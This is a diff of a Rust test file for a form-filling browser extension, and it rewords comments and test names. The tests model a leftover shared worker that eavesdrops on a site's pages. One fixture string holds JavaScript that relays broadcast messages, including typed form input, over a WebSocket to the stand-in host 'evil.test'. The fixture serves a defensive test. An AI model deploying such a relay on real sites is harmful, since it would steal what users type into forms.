@@ -1,5 +1,5 @@
 //! A program that a page of the site left running before the task: a shared worker with an extended lifetime, which no
-//! extension sees or ends, and which hears what a page of its site says to all.
+//! extension sees or ends, and which receives the broadcasts of its site's pages.
 
 use std::process::Command;
 use std::thread;
@@ -14,12 +14,12 @@ use crate::way_out::{arrive, quiet, wait_for};
 const STARTS: &str = "<!doctype html><title>Earlier</title><script>
     new SharedWorker('/left.js', { name: 'left', extendedLifetime: true });</script>";
 
-/// It sends what is told to all.
+/// It sends the broadcasts on.
 const LEFT: &str = "const send = (d) => new WebSocket('wss://evil.test:PORT/left?' + d);
     new BroadcastChannel('all').onmessage = (e) => send(e.data);
     send('started');";
 
-/// Tells what is typed to all of its origin.
+/// Broadcasts the typed text to all of its origin.
 const TELLS: &str = "<script>
     const all = new BroadcastChannel('all');
     addEventListener('input', () => setTimeout(() => {
@@ -27,7 +27,7 @@ const TELLS: &str = "<script>
       document.body.dataset.told = '';
     }, 50));</script>";
 
-/// A browser of which the extension has heard that it began, and so that nothing was there earlier.
+/// A browser whose start was reported to the extension, so that no page was open earlier.
 fn machine(seed: u64) -> Stage {
     let mut stage = Stage::new(seed);
     stage.site.put("shop.test/checkout", &format!("{FORM}{TELLS}"));
@@ -39,13 +39,13 @@ fn machine(seed: u64) -> Stage {
     stage
 }
 
-/// A browser that is given an extension on its command line installs it anew with each start and tells it of no start
-/// (Chromium 156), so that the test says it.
+/// Chromium 156 installs an extension from its command line anew at each start and does not report the start, so the
+/// test reports it.
 fn begins(stage: &mut Stage) {
     stage.browser().at_question("begins", &serde_json::json!({}));
 }
 
-/// A page of the site starts it, and is closed.
+/// A page of the site starts it and is closed.
 fn leave_one_running(stage: &mut Stage) {
     let (earlier, bank) = (stage.site.url("shop.test/earlier"), stage.site.url("bank.test/"));
     stage.browser().open(&earlier);
@@ -61,7 +61,7 @@ fn go_to_the_form(stage: &mut Stage) {
     assert!(page.contains("Deliver to"), "{page}");
 }
 
-/// What the user was told, up to these words.
+/// The message to the user, up to these words.
 fn told_until(stage: &Stage, words: &str) -> String {
     let began = Instant::now();
     let mut told = String::new();
@@ -73,7 +73,7 @@ fn told_until(stage: &Stage, words: &str) -> String {
     told
 }
 
-/// Nothing is filled in, the user is told why, and what was left running hears all the same what the page says.
+/// Nothing is filled in and the user gets the reason; the program still receives the page's broadcasts.
 fn is_denied(stage: &mut Stage) {
     go_to_the_form(stage);
     let before = quiet(stage);
@@ -92,7 +92,7 @@ fn is_denied(stage: &mut Stage) {
 }
 
 #[test]
-fn what_a_page_of_before_left_running_hears_what_is_filled_in_where_the_user_trusts_that_page() {
+fn a_program_of_an_earlier_page_receives_filled_values_if_the_user_trusts_that_page() {
     let mut stage = machine(61);
     leave_one_running(&mut stage);
     stage.begin_task(&["--trust-open-pages"]);
@@ -107,7 +107,7 @@ fn what_a_page_of_before_left_running_hears_what_is_filled_in_where_the_user_tru
 }
 
 #[test]
-fn nothing_is_filled_in_while_a_page_of_before_may_have_left_something_running() {
+fn nothing_is_filled_while_an_earlier_page_may_have_left_a_program_running() {
     let mut stage = machine(62);
     leave_one_running(&mut stage);
     stage.begin_task(&[]);
@@ -115,7 +115,7 @@ fn nothing_is_filled_in_while_a_page_of_before_may_have_left_something_running()
 }
 
 #[test]
-fn a_worker_that_was_stopped_meanwhile_knows_it_too() {
+fn a_restarted_worker_knows_of_earlier_pages_too() {
     let mut stage = machine(63);
     leave_one_running(&mut stage);
     stage.browser().stop_worker();
@@ -137,7 +137,7 @@ fn a_site_that_was_not_open_before_is_filled_at_once() {
 }
 
 #[test]
-fn an_extension_that_has_just_come_does_not_know_what_was_there_before() {
+fn a_new_extension_assumes_that_earlier_pages_were_open() {
     let mut stage = Stage::new(65);
     stage.site.put("shop.test/checkout", FORM);
     stage.serve(true);
@@ -153,7 +153,7 @@ fn an_extension_that_has_just_come_does_not_know_what_was_there_before() {
 }
 
 #[test]
-fn it_ends_after_five_minutes_whatever_the_clocks_and_the_workers_do() {
+fn the_waiting_ends_after_five_minutes_whatever_the_clocks_and_workers_do() {
     let done = Command::new(node())
         .arg(repository().join("cli/tests/extension/earlier.mjs"))
         .arg(repository().join("extension"))
